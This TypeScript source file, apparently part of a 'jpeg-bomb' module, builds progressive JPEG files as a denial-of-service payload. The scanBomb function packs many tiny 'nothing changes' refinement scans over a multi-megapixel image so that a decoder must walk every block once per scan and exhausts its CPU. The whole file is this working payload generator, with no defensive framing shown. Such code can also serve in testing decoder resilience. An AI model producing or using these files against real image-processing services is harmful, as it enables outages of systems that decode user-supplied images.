import { segment } from './jpeg-bomb.ts';

/** One code of one bit, 0, for one symbol. */
const oneCode = (symbol: number) => [1, ...Array<number>(15).fill(0), symbol];
/** "Nothing more in so many blocks": 14 bits say how many beside 16384. */
const RUN = { symbol: 0xe0, bits: 14, least: 1 << 14, most: (1 << 15) - 1 };
/** From how many bits down a coefficient is refined: each time one scan, and then again from the first. */
const PRECISION = 13;

/**
 * A well-formed progressive grey JPEG (ITU-T T.81, annex G) with so many scans of all its coefficients but the first, each of some 40 octets at 25
 * megapixels: they say that nothing changes, and a decoder looks at every block to find that out.
 *
 * @param width in pixels, a multiple of 64
 * @param height in pixels, a multiple of 8
 */
export function scanBomb(width: number, height: number, scans: number): Uint8Array<ArrayBuffer> {
  const size = [height >> 8, height & 0xff, width >> 8, width & 0xff];
  const blocks = (width / 8) * (height / 8);
  const nothing = emptyScan(blocks);
  const refining = Array.from({ length: scans }, (_, scan) => {
    const from = (PRECISION + 1 - (scan % (PRECISION + 1))) % (PRECISION + 1);
    const to = from === 0 ? PRECISION : from - 1;
    return [segment(0xda, [1, 1, 0, 1, 63, (from << 4) | to]), nothing];
  });
  return new Uint8Array(
    Buffer.concat([
      Buffer.from([0xff, 0xd8]),
      segment(0xdb, [0, ...Buffer.alloc(64, 1)]),
      segment(0xc2, [8, ...size, 1, 1, 0x11, 0]),
      segment(0xc4, [0x00, ...oneCode(0)]),
      segment(0xc4, [0x10, ...oneCode(RUN.symbol)]),
      segment(0xda, [1, 1, 0x00, 0, 0, 0]),
      Buffer.alloc(blocks / 8),
      ...refining.flat(),
      Buffer.from([0xff, 0xd9]),
    ]),
  );
}

/** The coded data of a scan in which no block has anything. */
function emptyScan(blocks: number): Buffer {
  let bits = '';
  for (let left = blocks; left > 0; left -= RUN.most) {
    const run = Math.max(0, Math.min(left, RUN.most) - RUN.least);
    bits += `0${run.toString(2).padStart(RUN.bits, '0')}`;
  }
  const octets = bits.match(/.{1,8}/g) ?? [];
  const values = octets.map((octet) => parseInt(octet.padEnd(8, '1'), 2));
  return Buffer.from(values.flatMap((value) => (value === 0xff ? [value, 0] : [value])));
}
